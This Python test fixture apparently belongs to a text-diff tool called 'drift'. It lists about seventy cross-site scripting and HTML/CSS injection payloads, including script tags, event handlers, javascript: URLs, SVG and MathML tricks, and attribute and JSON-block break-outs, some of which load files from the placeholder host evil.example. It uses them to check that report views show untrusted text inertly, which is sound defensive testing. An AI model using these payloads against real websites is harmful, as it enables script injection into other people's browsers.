"""Hostile text for the views: every payload, if it ever ran, would set ``window.__drift_pwned``.

Articles are scraped from the web and pasted by users, so a report's texts, ids, explanations and
model name are untrusted. Each payload is one line of text (no line breaks) that a view must show
as the characters it is, never as markup, script, style or a URL to fetch. ``MARKER`` is the global
a payload sets when it executes; ``OUTSIDE`` is the host a payload tries to fetch from.

Sources of the vectors: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet
(event handlers, SVG/MathML namespace confusion), and the break-outs specific to how drift renders:
text placed in attributes (``title=``, ``data-``), in a ``<script type="application/json">`` data
block, and in ``<style>``.
"""

from __future__ import annotations

MARKER = "__drift_pwned"
OUTSIDE = "evil.example"
_SET = f"window.{MARKER}=1"

PAYLOADS: list[tuple[str, str]] = [
    # script elements
    ("script", f"<script>{_SET}</script>"),
    ("script-upper", f"<SCRIPT>{_SET}</SCRIPT>"),
    ("script-src", f"<script src=\"https://{OUTSIDE}/x.js\"></script>"),
    ("script-nested", f"<scr<script>ipt>{_SET}</scr</script>ipt>"),
    ("script-unclosed", f"<script>{_SET}//"),
    ("script-type-module", f"<script type=module>{_SET}</script>"),
    # event handler attributes
    ("img-onerror", f"<img src=x onerror=\"{_SET}\">"),
    ("img-onerror-noquote", f"<img src=x onerror={_SET}>"),
    ("svg-onload", f"<svg onload=\"{_SET}\"></svg>"),
    ("body-onload", f"<body onload=\"{_SET}\">"),
    ("details-ontoggle", f"<details open ontoggle=\"{_SET}\"><summary>x</summary></details>"),
    ("input-autofocus", f"<input autofocus onfocus=\"{_SET}\">"),
    ("video-onerror", f"<video><source onerror=\"{_SET}\"></video>"),
    ("marquee-onstart", f"<marquee onstart=\"{_SET}\">x</marquee>"),
    ("div-onmouseover", f"<div style=\"position:fixed;inset:0\" onmouseover=\"{_SET}\">cover</div>"),
    ("audio-src-onerror", f"<audio src=1 onerror={_SET}>"),
    # javascript: and data: URLs
    ("a-javascript", f"<a href=\"javascript:{_SET}\" id=pwnlink>click</a>"),
    ("a-javascript-entity", f"<a href=\"jav&#x09;ascript:{_SET}\">tab</a>"),
    ("iframe-javascript", f"<iframe src=\"javascript:parent.{MARKER}=1\"></iframe>"),
    ("form-action", f"<form action=\"javascript:{_SET}\"><button>go</button></form>"),
    ("object-data", f"<object data=\"data:text/html,<script>parent.{MARKER}=1</script>\"></object>"),
    ("embed-src", f"<embed src=\"data:text/html,<script>parent.{MARKER}=1</script>\">"),
    ("meta-refresh", f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{_SET}\">"),
    # SVG and MathML
    ("svg-script", f"<svg><script>{_SET}</script></svg>"),
    ("svg-animate", f"<svg><animate onbegin=\"{_SET}\" attributeName=x dur=1s></svg>"),
    ("svg-use-data", f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{_SET}'/>#x\"/></svg>"),
    ("svg-foreignobject", f"<svg><foreignObject><img src=x onerror=\"{_SET}\"></foreignObject></svg>"),
    ("mathml-href", f"<math><mtext><a href=\"javascript:{_SET}\">m</a></mtext></math>"),
    ("mathml-confusion", f"<math><mtext><table><mglyph><style><img src=x onerror=\"{_SET}\">"),
    # iframes and srcdoc
    ("iframe-srcdoc", f"<iframe srcdoc=\"<script>parent.{MARKER}=1</script>\"></iframe>"),
    ("iframe-srcdoc-entities",
     f"<iframe srcdoc=\"&lt;script&gt;parent.{MARKER}=1&lt;/script&gt;\"></iframe>"),
    ("iframe-outside", f"<iframe src=\"https://{OUTSIDE}/frame\"></iframe>"),
    # CSS injection
    ("style-breakout", "</style><style>body{display:none!important}</style>"),
    ("style-import", f"<style>@import url(https://{OUTSIDE}/x.css);</style>"),
    ("style-attr-bg", f"<p style=\"background:url(https://{OUTSIDE}/bg.png)\">bg</p>"),
    ("style-hide-report", "<style>.drift-report,.drift-explorer{visibility:hidden!important}</style>"),
    ("link-stylesheet", f"<link rel=stylesheet href=\"https://{OUTSIDE}/s.css\">"),
    # break-outs from attributes and data blocks
    ("attr-breakout-dq", f"\"><script>{_SET}</script>"),
    ("attr-breakout-sq", f"'><img src=x onerror={_SET}>"),
    ("attr-breakout-event", f"\" onmouseover=\"{_SET}\" data-x=\""),
    ("attr-breakout-unquoted", f"x onfocus={_SET} autofocus"),
    ("json-block-breakout", f"</script><script>{_SET}</script>"),
    ("json-block-breakout-case", f"</ScRiPt ><script>{_SET}</script>"),
    ("json-string-breakout", f"\"}}]}}</script><script>{_SET}</script>"),
    ("html-comment-open", f"<!-- <script>{_SET}</script> -->"),
    ("html-comment-breakout", f"--><script>{_SET}</script><!--"),
    ("cdata", f"<![CDATA[<script>{_SET}</script>]]>"),
    ("textarea-breakout", f"</textarea><script>{_SET}</script>"),
    ("title-breakout", f"</title><script>{_SET}</script>"),
    ("noscript-breakout", f"<noscript><p title=\"</noscript><img src=x onerror={_SET}>\"></noscript>"),
    ("template-breakout", f"</template><script>{_SET}</script>"),
    ("base-href", f"<base href=\"https://{OUTSIDE}/\">"),
    # template literals, backticks and JS string escapes (text inside inline JS)
    ("template-literal", f"${{{_SET}}}"),
    ("backtick-breakout", f"`;{_SET};`"),
    ("js-string-breakout", f"';{_SET};'"),
    ("js-dq-breakout", f"\";{_SET};\""),
    ("unicode-escape-script", "\\u003cscript\\u003ewindow.__drift_pwned=1\\u003c/script\\u003e"),
    ("line-separator-js", f"\u2028{_SET}\u2029"),
    # entity and encoding tricks
    ("entity-encoded", f"&lt;script&gt;{_SET}&lt;/script&gt;"),
    ("double-encoded", f"&amp;lt;img src=x onerror={_SET}&amp;gt;"),
    ("fullwidth-lt", f"\uff1cscript\uff1e{_SET}\uff1c/script\uff1e"),
    # Unicode tricks (must survive as text, exactly)
    ("rtl-override", "\u202eetad.evil\u202c file named \u202egnp.exe\u202c"),
    ("zero-width", "pay\u200bload\u200c with\u200d zero\ufeffwidth \u2060joiners"),
    ("homoglyphs", "Маduго sаid \u0440еасе (Cyrillic homoglyphs)"),
    ("controls-no-nul", "bell\u0007 backspace\u0008 escape\u001b[31m vt\u000b ff\u000c end"),
    ("combining-zalgo", "Z\u0351\u0352\u0353a\u0354\u0355l\u0356\u0357g\u0358\u0359o\u035a"),
    ("emoji-zwj", "👩🏽‍💻 🏳️‍🌈 🇻🇪 family 👨‍👩‍👧‍👦"),
    ("bidi-isolates", "\u2066isolated\u2069 \u2067rtl-isolate\u2069 \u200fmark\u200e"),
    ("very-long-word", "W" * 3000),
    ("very-long-url", "https://" + "a" * 2000 + ".example/" + "b" * 1000),
]

assert len(PAYLOADS) >= 50
assert len({name for name, _ in PAYLOADS}) == len(PAYLOADS)
assert all("\n" not in p and "\r" not in p for _, p in PAYLOADS)


def hostile_lines() -> list[str]:
    """Each payload as one article line, the way it would sit in scraped text."""
    return [f"Item {k}: {payload} end of item {k}." for k, (_, payload) in enumerate(PAYLOADS)]


# -- a report made of payloads -------------------------------------------------------------------

HOSTILE_IDS = (f"b\"><svg onload=\"window.{MARKER}=1\">", f"r</script><script>window.{MARKER}=1</script>")
HOSTILE_MODEL = f"<img src=x onerror=\"window.{MARKER}=1\">"


class _HashEmbedder:
    """Hashed bag of words (as the property tests' fake embedder) under a hostile model name."""

    name = HOSTILE_MODEL
    dim = 64

    def encode(self, texts):
        import re
        import zlib

        import numpy as np

        out = np.zeros((len(texts), self.dim), dtype=np.float32)
        for row, text in enumerate(texts):
            for tok in re.findall(r"\w+", text.lower()) or [text or "empty"]:
                h = zlib.crc32(tok.encode("utf-8", "surrogatepass"))
                out[row, h % self.dim] += 1.0 if (h >> 16) & 1 else -1.0
            norm = float(np.linalg.norm(out[row]))
            if norm == 0:
                out[row, 0], norm = 1.0, 1.0
            out[row] /= norm
        return out


def _document(doc_id: str, role: str, lines: list[str]):
    from drift.report import Document, Sentence

    text = "\n".join(lines)
    sentences, at = [], 0
    for line in lines:
        sentences.append(Sentence(at, at + len(line)))
        at += len(line) + 1
    return Document(doc_id, role, text, tuple(sentences), "en")


def build_report():
    """A real drift report (pipeline, diffs, shifts) whose every text carries every payload.

    The rewrite changes every line (so every pair shows a diff), changes numbers, drops two lines
    and adds two payload lines of its own; document ids and the model name are hostile too.
    """
    from drift.embedding import load_embedder
    from drift.pipeline import Analyzer, compare

    base_lines = hostile_lines()
    rewrite_lines = []
    for k, line in enumerate(base_lines):
        if k in (5, 40):
            continue  # deleted: shown with its payload as an omission
        changed = line.replace("Item", "Entry", 1)
        if k % 4 == 0:
            changed = changed.replace(f"end of item {k}.", f"end of item {k + 1000}, officials claimed.")
        rewrite_lines.append(changed)
    rewrite_lines.insert(10, f"Added: {PAYLOADS[0][1]} and {PAYLOADS[41][1]} were never in the base.")
    rewrite_lines.insert(30, f"Also added: {PAYLOADS[6][1]} {PAYLOADS[32][1]}.")
    base = _document(HOSTILE_IDS[0], "base", base_lines)
    rewrite = _document(HOSTILE_IDS[1], "rewrite", rewrite_lines)
    analyzer = Analyzer(load_embedder(_HashEmbedder(), cache_dir=False))
    return compare(base, rewrite, analyzer=analyzer)
